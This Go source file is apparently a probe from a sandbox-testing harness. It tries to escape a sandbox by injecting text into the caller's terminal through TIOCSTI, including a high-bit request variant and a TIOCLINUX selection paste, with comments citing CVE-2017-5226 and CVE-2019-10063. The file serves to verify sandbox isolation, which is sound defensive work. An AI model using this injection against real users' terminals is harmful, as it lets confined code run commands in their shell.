//go:build linux

package attack

import (
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

// tiocsti pushes bytes into the input of a terminal it was given, as in
// CVE-2017-5226: bubblewrap ran the sandboxed program in the caller's
// terminal session, and ioctl(TIOCSTI) queued a command there that the
// caller's shell read and ran after the sandbox exited. The sandbox's
// program is a session leader without a terminal, so the attack first
// tries to take the terminal on its standard input as its controlling
// terminal (TIOCSCTTY), which TIOCSTI requires of a process without
// CAP_SYS_ADMIN, and then injects args[0] on fds 0, 1 and 2 and on
// /dev/tty: plainly, and with high bits set in the request, which the
// kernel ignores (CVE-2019-10063). TIOCLINUX's selection paste, the
// virtual console's way to the same end, is tried too.
//
// The injected text is never printed: the test reads the terminal and
// must not find it there.
func tiocsti(r *Report, args []string) {
	if len(args) < 1 || args[0] == "" {
		r.See("usage", "tiocsti TEXT")
		return
	}
	text := args[0]
	r.See("text", "%d bytes", len(text))
	for fd := range 3 {
		n := strconv.Itoa(fd)
		_, err := unix.IoctlGetTermios(fd, unix.TCGETS)
		r.See("fd "+n+" is a terminal", "%s", orErr("yes", err))
		if err != nil {
			continue
		}
		r.See("TIOCSCTTY fd "+n, "%s", orErr("taken", unix.IoctlSetInt(fd, unix.TIOCSCTTY, 0)))
	}
	fds := []int{0, 1, 2}
	if tty, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err == nil {
		fds = append(fds, tty)
		defer unix.Close(tty)
		r.See("open /dev/tty", "fd %d", tty)
	} else {
		r.See("open /dev/tty", "%v", errName(err))
	}
	for _, fd := range fds {
		n := strconv.Itoa(fd)
		r.Try("TIOCSTI on fd "+n, inject(fd, unix.TIOCSTI, text))
		r.Try("TIOCSTI with high request bits on fd "+n, inject(fd, 1<<32|unix.TIOCSTI, text))
		// TIOCL_PASTESEL: the current selection into the console's input.
		sub := byte(3)
		r.Try("TIOCLINUX paste selection on fd "+n, ioctlPtr(fd, unix.TIOCLINUX, unsafe.Pointer(&sub)))
	}
}

// inject queues text on the terminal fd one byte at a time with request
// req (TIOCSTI), and stops at the first refusal: nil if any byte went in.
func inject(fd int, req uint64, text string) error {
	b := []byte(text)
	for i := range b {
		if err := ioctlPtr(fd, req, unsafe.Pointer(&b[i])); err != nil {
			if i > 0 {
				return nil
			}
			return err
		}
	}
	return nil
}

// ioctlPtr is ioctl(fd, req, p) with the full 64-bit request.
func ioctlPtr(fd int, req uint64, p unsafe.Pointer) error {
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(req), uintptr(p))
	if errno != 0 {
		return errno
	}
	return nil
}

func init() { register("tiocsti", tiocsti) }
